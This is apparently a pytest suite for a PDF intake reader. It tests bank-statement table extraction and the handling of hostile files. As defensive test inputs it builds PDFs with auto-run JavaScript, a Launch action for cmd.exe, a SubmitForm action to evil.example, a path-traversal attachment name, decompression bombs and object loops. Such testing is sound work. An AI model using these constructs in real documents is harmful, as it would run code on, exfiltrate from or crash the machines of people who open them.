"""PDF: text, statements, files and links come out; nothing runs; hostile files end as problems."""

from __future__ import annotations

import hashlib
import random
import zlib
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.intake import pdf_bank
from tests.intake.pdf_measure import parts, problems, score, table
from tests.intake.pdf_writer import Page, assembled, document

from leadline.extract.extractors.bank_csv import bank_csv
from leadline.intake import identify, limits
from leadline.intake.readers.pdf import pdf
from leadline.model.records import Child, Context, Count, Entry, Exhibit, Part, Problem
from leadline.plugins import Plugin

PLUGIN: Plugin = pdf.__leadline__  # type: ignore[attr-defined]


def page(text: str = "hello") -> Page:
    made = Page()
    made.text(50, 50, text)
    return made


def said(some: list[Part]) -> str:
    return next((p.data.decode("utf-8") for p in some if isinstance(p, Child) and p.name == "text.txt"), "")


def kinds(some: list[Part]) -> list[str]:
    return [p.kind for p in problems(some)]


def files(some: list[Part]) -> dict[str, bytes]:
    return {p.name: p.data for p in some if isinstance(p, Child)}


@pytest.mark.parametrize("seed", range(40))
def test_a_statement_comes_out_row_by_row(seed: int) -> None:
    truth = pdf_bank.statement(seed)
    found = score(truth)
    assert not found.wrong
    assert found.exact + found.reported >= len(truth.rows)
    assert found.exact >= 0.9 * len(truth.rows) - 1


@pytest.mark.parametrize("seed", range(500, 520))
def test_other_layouts_come_out_or_are_reported(seed: int) -> None:
    found = score(pdf_bank.statement(seed, pdf_bank.other(random.Random(seed))))
    assert not found.wrong


def test_equal_bookings_below_one_another_stay_two() -> None:
    made = Page()
    for x, name in ((50, "Date"), (120, "Description"), (400, "Amount"), (500, "Balance")):
        made.text(x, 100, name)
    for n, balance in enumerate(("90.00", "80.00", "70.00")):
        y = 115 + 11 * n
        made.text(50, y, "01/02/2026")
        made.text(120, y, "A long description of a payment that was made again and again", 9)
        made.text(430, y, "-10.00", right=True)
        made.text(530, y, balance, right=True)
    rows = table(parts(document([made])))
    assert [row["Balance"] for row in rows] == ["90.00", "80.00", "70.00"]
    assert len({row["Description"] for row in rows}) == 1
    assert [row["page"] for row in rows] == ["1", "1", "1"]
    left, top, right, bottom = (float(part) for part in rows[0]["box"].split())
    assert (round(left), round(right)) == (round(50 * 25.4 / 72), round(530 * 25.4 / 72))
    assert top < 115 * 25.4 / 72 < bottom


@pytest.mark.parametrize("money", ["split", "signed", "worded", "behind"])
@pytest.mark.parametrize("language", ["en", "de", "th"])
def test_the_statements_extractor_reads_what_comes_out(money: str, language: str) -> None:
    if money == "worded" and language == "th":
        pytest.skip("no words for in and out behind amounts in this language")
    decimal, group = (",", ".") if language == "de" else (".", ",")
    how = pdf_bank.Layout(language=language, money=money, decimal=decimal, group=group, carry=True, page_rows=12, days="%d.%m.%Y" if language == "de" else "%d/%m/%Y")
    truth = pdf_bank.statement(7, how)
    some = parts(truth.pdf)
    (child,) = [p for p in some if isinstance(p, Child) and p.name.endswith(".csv")]
    plugin = identify.identify(child.data, child.name)
    assert plugin
    assert plugin.info["media"](child.data, child.name) == "text/csv; table=statement"
    one = Exhibit(hashlib.sha256(child.data).hexdigest(), len(child.data), "text/csv; table=statement", child.name)
    found = list(bank_csv(replace(one, context=Context(currency="EUR")), child.data))
    entries = [f for f in found if isinstance(f, Entry)]
    assert len(entries) == len(truth.rows)
    assert not [f.what for f in found if isinstance(f, Problem) and f.kind in ("balance-break", "bad-row", "bad-table")]
    assert next(f for f in found if isinstance(f, Count)).rows_reported == 0


def test_two_accounts_in_one_file_are_two_statements() -> None:
    pages = []
    for number in ("203-8-91736-4", "555-1-22222-9"):
        made = Page()
        made.text(50, 50, f"Account no. {number}")
        for x, name in ((50, "Date"), (120, "Description"), (400, "Amount"), (500, "Balance")):
            made.text(x, 100, name)
        for x, cell in ((50, "01/02/2026"), (120, "Rent"), (400, "-10.00"), (500, "90.00")):
            made.text(x, 115, cell)
        pages.append(made)
    found = files(parts(document(pages)))
    assert [name for name in found if name.endswith(".csv")] == ["statement statement 1.csv", "statement statement 2.csv"]


def test_a_carried_balance_that_changes_between_pages_is_told() -> None:
    pages = []
    for first, carry in ((True, "90.00"), (False, "95.00")):
        made = Page()
        for x, name in ((50, "Date"), (120, "Description"), (400, "Amount"), (500, "Balance")):
            made.text(x, 100, name)
        y = 115
        if not first:
            made.text(120, y, "Balance brought forward")
            made.text(500, y, carry)
            y += 15
        for x, cell in ((50, "01/02/2026"), (120, "Rent"), (400, "-10.00"), (500, "90.00" if first else "85.00")):
            made.text(x, y, cell)
        if first:
            made.text(120, y + 15, "Balance carried forward")
            made.text(500, y + 15, carry)
        pages.append(made)
    assert "balance-break" in kinds(parts(document(pages)))


def test_a_row_that_is_not_clear_is_reported_and_counted() -> None:
    made = Page()
    for x, name in ((50, "Date"), (120, "Description"), (300, "Money out"), (400, "Money in"), (500, "Balance")):
        made.text(x, 100, name)
    for y, cells in ((115, ("01/02/2026", "Rent", "10.00", "", "90.00")), (130, ("02/02/2026", "Both", "1.00", "2.00", "91.00")), (145, ("03/02/2026", "None", "", "", "91.00"))):
        for x, cell in zip((50, 120, 300, 400, 500), cells, strict=True):
            made.text(x, y, cell)
    some = parts(document([made]))
    assert [row["Description"] for row in table(some)] == ["Rent"]
    assert Count("0" * 64, 3, 1, 2) in some
    assert kinds(some).count("bad-row") == 2


def test_days_and_amounts_without_a_known_header_are_told() -> None:
    made = Page()
    for n in range(4):
        made.text(50, 100 + 12 * n, f"0{n + 1}/02/2026")
        made.text(300, 100 + 12 * n, "12.50")
    assert kinds(parts(document([made]))) == ["bad-table"]


def test_what_is_not_seen_is_marked() -> None:
    made = page("plain")
    made.text(50, 100, "ghost", before="3 Tr")
    made.text(50, 120, "white", before="1 1 1 rg")
    made.box(40, 130, 200, 30)
    made.text(50, 150, "on blue", before="1 1 1 rg")
    made.text(900, 150, "far")
    made.text(50, 200, "dust", 0.5)
    lines = said(parts(document([made]))).splitlines()
    hidden = {line.partition(": ")[2].rstrip("]"): lines[n + 1] for n, line in enumerate(lines) if line.startswith("[not seen on the page")}
    assert hidden == {"drawn invisibly": "ghost", "white on white": "white", "outside the page": "far", "too small to be seen": "dust"}
    assert lines[:3] == ["[page 1]", "plain", "on blue"]


def test_a_scan_is_told_by_its_pages() -> None:
    scan = Page()
    scan.marks = ["q 100 0 0 100 50 50 cm BI /W 1 /H 1 /CS /G /BPC 8 ID A EI Q"]
    layered = Page()
    layered.marks = list(scan.marks)
    layered.text(50, 50, "01/02/2026 12.50", before="3 Tr")
    found = problems(parts(document([scan, Page(), page(), scan, layered])))
    assert [(p.kind, p.what.split(":")[0]) for p in found] == [("unreadable", "Pages 1, 4"), ("unreadable", "Page 5")]
    assert all("Type what" in p.advice for p in found)


def test_turned_pages_are_read_and_turned_text_is_kept() -> None:
    turned = Page(rotate=90)
    turned.marks = ["BT /F1 9 Tf 0 1 -1 0 100 100 Tm (up we go) Tj ET"]
    marked = page()
    marked.marks.append("BT /F1 40 Tf 0.7 0.7 -0.7 0.7 100 100 Tm (DRAFT) Tj ET")
    lines = said(parts(document([turned, marked]))).splitlines()
    assert lines == ["[page 1]", "up we go", "[page 2]", "hello", "[text that runs in another direction]", "DRAFT"]


def test_links_notes_fields_and_files_come_out() -> None:
    made = page()
    made.extra = (
        "/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://pay.example/a\\(b\\)) >> >> "
        "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (call me) /T (Bob) >> "
        "<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /T (iban) /V (DE1) >> "
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 1000 0 R >> ]"
    )
    names = "/Names << /EmbeddedFiles << /Names [(a) 1000 0 R] >> /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"
    spec = {1000: b"<< /Type /Filespec /F (../x/evil.txt) /EF << /F 1001 0 R >> >>", 1001: b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"}
    some = parts(document([made], catalog=names, objects=spec))
    assert said(some).splitlines() == ["[page 1]", "hello", "[note by Bob] call me", "[field iban] DE1", "[href] https://pay.example/a(b)"]
    found = files(some)
    assert sum(data == b"hello" for data in found.values()) == 2
    assert found["script 1.txt"] == b"app.alert(1)"
    assert not [name for name in found if "/" in name]


@pytest.mark.parametrize(
    ("catalog", "told"),
    [
        ("/OpenAction << /S /JavaScript /JS (x) >>", "JavaScript"),
        ("/OpenAction << /S /J#61vaScript /J#53 (x) >>", "JavaScript"),
        ("/OpenAction << /S /Launch /F (cmd.exe) >>", "cmd.exe"),
        ("/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>", "SubmitForm"),
        ("/AcroForm << /XFA (x) >>", "XFA"),
    ],
)
def test_active_content_is_told_and_not_run(catalog: str, told: str) -> None:
    (problem,) = problems(parts(document([page()], catalog=catalog)))
    assert problem.kind == "active-content"
    assert told in problem.what


def rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def locked(password: bytes) -> bytes:
    """A document with the standard handler of 40 bits (ISO 32000-1, algorithms 2 to 4)."""
    padding = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
    padded = (password + padding)[:32]
    owner = rc4(hashlib.md5(padded).digest()[:5], padded)
    key = hashlib.md5(padded + owner + (-4 & 0xFFFFFFFF).to_bytes(4, "little") + b"0123456789abcdef").digest()[:5]
    user = rc4(key, padding)
    trailer = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> /ID [<%s> <%s>]" % (
        owner.hex().encode(), user.hex().encode(), b"0123456789abcdef".hex().encode(), b"0123456789abcdef".hex().encode())  # fmt: skip
    body = b"BT (x) Tj ET"
    stream = rc4(hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10], body)
    return assembled(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>", 4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        }, trailer,
    )  # fmt: skip


def test_a_password_is_asked_for() -> None:
    assert kinds(parts(locked(b"secret"))) == ["encrypted"]
    assert "encrypted" not in kinds(parts(locked(b""))), "no password is needed to open it"


def bombs() -> dict[str, bytes]:
    once = zlib.compress(bytes(100_000_000), 9)
    twice = zlib.compress(once, 9)
    forms: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /F 10 0 R >> >> >>",
        4: b"<< /Length 4 >>\nstream\n/F Do\nendstream",
    }  # fmt: skip
    for n in range(12):
        body = b"/F Do " * 10
        forms[10 + n] = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >> /Length %d >>\nstream\n%s\nendstream" % (11 + n, len(body), body)
    return {
        "once": document([page()], objects={1000: b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(once), once)}),
        "twice": document([page()], objects={1000: b"<< /Filter [/FlateDecode /Fl] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)}),
        "forms": assembled(forms),
    }


@pytest.mark.parametrize("name", ["once", "twice", "forms"])
def test_bombs_are_refused(name: str) -> None:
    assert kinds(parts(bombs()[name])) == ["over-limit"]


@pytest.mark.timeout(20)
def test_loops_and_lies_end() -> None:
    loop = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}
    lie = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 2000000000 >>"}
    itself = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >> >>",
        4: b"<< /Type /XObject /Subtype /Form /Resources << /XObject << /F 4 0 R >> >> /Length 4 >>\nstream\n/F Do\nendstream",
    }  # fmt: skip
    for objects in (loop, lie, itself):
        assert kinds(parts(assembled(objects)))


def test_more_pages_or_characters_than_are_read_are_told() -> None:
    data = document([page(), page("second"), page("third")])
    with limits.using(limits.Limits(pages=2, page_characters=5)):
        some = parts(data)
    assert kinds(some).count("limit") == 2
    assert "third" not in said(some)


def test_a_file_whose_end_is_lost_is_read_as_far_as_it_goes() -> None:
    data = document([page()])
    some = parts(data[: data.rindex(b"xref\n0")])
    assert said(some).splitlines() == ["[page 1]", "hello"]
    assert kinds(some) == ["truncated"]


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 20_000), st.integers(0, 255))
def test_a_damaged_file_gives_parts_or_problems(at: int, byte: int) -> None:
    whole = pdf_bank.statement(3, pdf_bank.Layout(rows=6)).pdf
    at %= len(whole)
    for data in (whole[:at], whole[:at] + bytes([byte]) + whole[at + 1 :]):
        some = parts(data)
        assert all(isinstance(part, Child | Problem | Count) for part in some)
        assert some


def test_it_is_known_by_its_content() -> None:
    claims = PLUGIN.info["claims"]
    data = document([page()])
    assert claims(data, "x") > 0.9
    assert claims(b"junk\n" * 10 + data, "x") == 0.5
    assert claims(b"", "a.pdf") == 0.0
    assert claims(b"we write %PDF-1.7 in a chat", "a.pdf") == 0.0
